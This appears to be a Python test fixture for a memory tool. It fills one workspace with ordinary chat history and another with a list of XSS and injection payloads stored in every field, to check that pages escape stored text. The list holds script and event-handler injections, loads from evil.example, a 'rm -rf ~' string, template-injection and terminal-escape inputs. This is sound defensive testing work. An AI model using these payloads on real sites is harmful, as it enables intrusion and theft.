"""Workspaces that pages are shown of: one that was lived in, and one in which everything that is stored attacks its reader."""

import json
from typing import Final

from recalld import Memory
from tests.world import World, message

#: What runs when one of the attacks succeeds: a mark in the page that a browser test looks for.
_RUN: Final = "window.attacked=1"
#: Texts that would be more than text in a page that trusts them: each way to leave a text, and each thing that runs or loads.
ATTACKS: Final = (
    f"<script>{_RUN}</script>",
    f"</textarea></title></style>--></script><script>{_RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><img src=x onerror='{_RUN}'>",
    f"<svg onload={_RUN}><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><script>{_RUN}</script>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"[x](javascript:{_RUN})",
    "![x](https://evil.example/pixel.png)",
    "<style>@import 'https://evil.example/x.css'</style>",
    '<div style="background:url(https://evil.example/x)">x</div>',
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    f"<div hx-get='/healthz' hx-trigger='load' hx-vals='js:{{a:{_RUN}}}'></div>",
    "<div data-copy='rm -rf ~'>x</div>",
    "{{ ''.__class__.__mro__ }} {% raw %}",
    "&lt;script&gt;window.attacked=1&lt;/script&gt;",
    "name\u202egnp.exe\u202c \u2066hidden\u2069 \u200b\u200b",
    "\x00\x1b]52;c;cm0=\x07\x08\x7f",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
)


def lived_in(world: World) -> None:
    """Fill the workspace: a summarised month, recent days, a group, a message of today, long-term lines, two turns."""
    said = [
        message("1", "2026-01-10T09:00", "备份放在书房的 NAS 上，每天凌晨三点跑。"),
        message("2", "2026-01-10T09:01", "Noted: the backup runs on the NAS at 3 am.", "assistant"),
        message("3", "2026-01-11T10:00", "我对青霉素过敏。", session="web"),
        message("4", "2026-02-13T20:00", "周六去爬山。", session="telegram:group:家", chat="group", name="小周"),
        message("5", "2026-02-14T08:30", "Which port does ssh use?", session="web"),
        message("6", "2026-02-14T08:31", "2222, from inside only.", "assistant", session="web"),
    ]
    world.write(said)
    world.settle()
    world.add(message("7", "2026-02-15T09:40", "今天把护照放进保险柜了。", session="web"))
    world.put("memory.md", "2026-01-20|web-chat|用户偏好Python；项目用FastAPI\n2026-02-01|telegram|周末去爬山\n# Rules\n")
    world.put("recalld.toml", world.toml)
    memory = Memory(world.root, environ={}, clock=world.clock)
    memory.context("备份在哪台机器上？", system="你是家里的助手。")
    memory.inject("ssh port?")


def hostile(world: World) -> None:
    """Fill the workspace with attacks, wherever something is stored; one message has a line of a megabyte."""
    said = []
    for number, attack in enumerate(ATTACKS):
        identity, role = (attack[:60], "assistant") if number % 2 else (f"m{number}", "user")
        when = f"2026-02-14T08:{number:02d}"
        said.append(message(identity, when, attack, role, session=attack[:80], name=attack[:40]))
    long = message("long", "2026-02-14T09:00", "<b>" + "长" * 1_000_000)
    old = [message(f"o{n}", f"2026-01-10T08:{n:02d}", attack) for n, attack in enumerate(ATTACKS)]
    world.write([*old, *said, long])
    world.settle()
    lines = "".join(f"2026-02-{n % 28 + 1:02d}|{attack[:40]}|{attack}\n" for n, attack in enumerate(ATTACKS))
    world.put("memory.md", lines.replace("\x00", ""))
    world.put("memory/summary/2026-02-14.md", "\n\n".join(ATTACKS).replace("\x00", ""))
    world.put("recalld.toml", world.toml)
    with (world.root / "log.jsonl").open("a", encoding="utf-8") as log:
        for attack in ATTACKS:
            fields = {"ts": "2026-02-14T08:00:00.000Z", "event": attack[:60], attack[:30]: attack, "why": [attack]}
            log.write(json.dumps(fields) + "\n")
    memory = Memory(world.root, environ={}, clock=world.clock)
    for attack in ATTACKS[::5]:
        memory.inject(attack)
        memory.inject("script window attacked", session=attack[:80])
